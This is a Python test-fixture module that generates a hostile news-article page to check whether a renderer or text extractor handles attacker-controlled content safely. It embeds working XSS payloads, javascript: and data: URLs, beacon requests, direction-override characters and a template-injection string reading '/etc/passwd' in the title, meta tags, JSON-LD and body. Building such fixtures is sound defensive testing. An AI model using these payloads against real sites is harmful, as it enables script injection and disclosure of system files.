"""An article page that attacks whoever shows it: markup, addresses, templates and controls in every place that a reader takes text from."""

import json

__all__ = ["BIDI", "MARK", "attack_page"]

# Embeddings, overrides and isolates of writing direction; a mark that a careless page would let stand.
BIDI = "\u202a\u202b\u202d\u202e\u2066\u2067\u2068\u200e\u200f\u061c"
MARK = "owned"  # what each payload writes into the page's title or calls


def attack_page(beacon: str) -> bytes:
    """The page. `beacon`: the address that each payload asks for, so that a request gives it away."""
    run = f"document.title='{MARK}';new Image().src='{beacon}/run'"
    payloads = [
        f"<script>{run}</script>",
        f"</title></style></textarea></pre></script><script>{run}</script>",
        f'"><img src="{beacon}/img" onerror="{run}">',
        f"' autofocus tabindex=1 onfocus='{run}' x='",
        f'<svg/onload="{run}"><a href="javascript:{MARK}()">x</a></svg>',
        f'<iframe src="{beacon}/frame" srcdoc="<script>{run}</script>"></iframe>',
        f'<link rel="stylesheet" href="{beacon}/css"><style>@import "{beacon}/import"; body{{background:url({beacon}/url)}}</style>',
        f'<meta http-equiv="refresh" content="0;url={beacon}/refresh"><base href="{beacon}/base/">',
        f'<form action="{beacon}/form"><button autofocus formaction="javascript:{MARK}()">x</button></form>',
        "{{ 7 * 7 }}{% include '/etc/passwd' %}{{ ''.__class__.__mro__ }}",
        f"]]><!--{BIDI}evil--><![CDATA[{run}",
        f"javascript:{MARK}()",
    ]
    texts = list(map(_escaped, payloads))
    data = {
        "@context": "https://schema.org",
        "@type": "NewsArticle",
        "headline": f"A bridge {payloads[0]} is closed {payloads[2]}",
        "author": {"@type": "Person", "name": f"Mara {payloads[4]}"},
        "image": f"javascript:{MARK}()",
        "url": f"javascript:{MARK}()",
        "keywords": payloads,
        "articleSection": payloads[1],
        "datePublished": f"2026-03-05T08:30:00Z{payloads[2]}",
        "description": " ".join(payloads),
        "publisher": {"@type": "Organization", "name": payloads[5][:70]},
    }
    linked = json.dumps(data).replace("<", "\\u003c")
    body = "".join(
        f'<p class="{text}" id="{text}">The council said on Monday that the bridge over the river stays closed until May. {text} Nobody '
        f"knows why it took so long, and the ferry that was promised in March has not come either, said people who wait for it.</p>"
        for text in texts
    )
    aside = "".join(f'<div class="newsletter {text}"><p>Sign up for our newsletter {text}</p></div>' for text in texts[:4])
    return (
        f'<!doctype html><html lang="en"><head><meta charset="utf-8"><title>A bridge is closed {texts[1]}</title>'
        f'<meta property="og:title" content="A bridge is closed {texts[2]} \u202e3pm.exe"><meta name="author" content="{texts[3]}">'
        f'<meta property="og:image" content="javascript:{MARK}()"><link rel="canonical" href="javascript:{MARK}()//{texts[2]}">'
        f'<meta property="og:url" content="data:text/html,{texts[0]}"><meta name="keywords" content="{texts[4]}, {texts[7]}">'
        f'<script type="application/ld+json">{linked}</script></head><body><article><h1>A bridge is closed {texts[1]}</h1>'
        f'<p class="byline">By {texts[0]} Mara Ellingsen</p>{body}{aside}</article></body></html>'
    ).encode()


def _escaped(text: str) -> str:
    """The text as an author would write it to be shown: the page itself is harmless."""
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;")
